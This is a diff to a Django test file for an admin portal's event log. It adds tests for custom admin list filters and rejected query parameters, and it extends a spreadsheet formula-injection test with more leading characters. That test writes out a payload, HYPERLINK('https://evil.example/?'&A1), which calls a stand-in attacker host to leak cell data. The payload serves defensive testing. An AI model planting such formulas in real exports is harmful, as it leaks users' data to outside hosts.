@@ -7,16 +7,17 @@ import json
 from datetime import datetime, timedelta
 
 import pytest
+from django.contrib import admin
 from django.test import Client
 from django.utils import timezone
 
 from portal import clock, tokens
 from portal.admin import event as event_admin
 from portal.admin import paging
-from portal.models import Actor, PortalEvent
+from portal.models import Actor, PortalEvent, PortalSession
 from tests.factories import PortalConfigFactory, issue_root_key, mint, sign_in
 
-from .rows import EVENTS, address, assert_strict, cells, staff, text
+from .rows import EVENTS, SESSIONS, address, assert_strict, cells, staff, text
 
 pytestmark = pytest.mark.django_db
 
@@ -34,6 +35,33 @@ def export(client, **query) -> list[dict[str, str]]:
 def record(kind="session.created", **values):
     actor = Actor(values.pop("actor_kind", "system"), values.pop("actor_id", ""), values.pop("address", None))
     return PortalEvent.record(kind, actor, using="default", **values)
+
+
+class ByName(admin.SimpleListFilter):
+    title = parameter_name = "word"
+
+    def lookups(self, request, model_admin):
+        return [("made", "Created"), ("replayed", "Replayed")]
+
+    def queryset(self, request, queryset):
+        return queryset.filter(kind__endswith=self.value()) if self.value() else queryset
+
+
+def test_a_hosts_subclass_may_have_djangos_filters(operator, config, root_key, monkeypatch):
+    sign_in(config, minted_by=root_key.row.pk)
+    mine = ("kind", ("address", admin.EmptyFieldListFilter), ByName, *event_admin.PortalEventAdmin.list_filter)
+    monkeypatch.setattr(admin.site.get_model_admin(PortalEvent), "list_filter", mine)
+    assert cells(operator.get(EVENTS, {"kind__exact": "session.created"}), "kind") == ["Session created"]
+    assert cells(operator.get(EVENTS, {"address__isempty": "0"}), "kind") == []
+    assert cells(operator.get(EVENTS, {"word": "exchanged"}), "kind") == ["Session exchanged"]
+    assert cells(operator.get(EVENTS, {"portal": config.public_id, "word": "created"}), "kind") != []
+    assert operator.get(EVENTS, {"external_id__startswith": "user"}).status_code == 400
+    assert operator.get(EVENTS, {"kinds": "session.created"}).status_code == 400
+    monkeypatch.setattr(admin.site.get_model_admin(PortalSession), "list_filter", ("minted_by",))
+    key = root_key.row.pk
+    assert len(cells(operator.get(SESSIONS, {"minted_by__id__exact": key}), "external_id")) == 1
+    assert cells(operator.get(SESSIONS, {"minted_by__id__exact": key + 1}), "external_id") == []
+    assert operator.get(SESSIONS, {"minted_by__key_hash__startswith": "a"}).status_code == 400
 
 
 def test_the_list_shows_the_newest_first(operator, config, root_key):
@@ -153,7 +181,11 @@ def test_a_row_of_the_export(operator, config):
     }
 
 
-@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠"])
+# Many programs trim a cell before they look at it.
+LATER = [" =", "  -", "\xa0=", "\ufeff+", "\u3000@", "\u200b=", "\x0b＝"]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠", *LATER])
 def test_a_spreadsheet_takes_no_cell_for_a_formula(operator, start):
     formula = f'{start}HYPERLINK("https://evil.example/?"&A1)'
     record(external_id=formula, actor_id=formula)
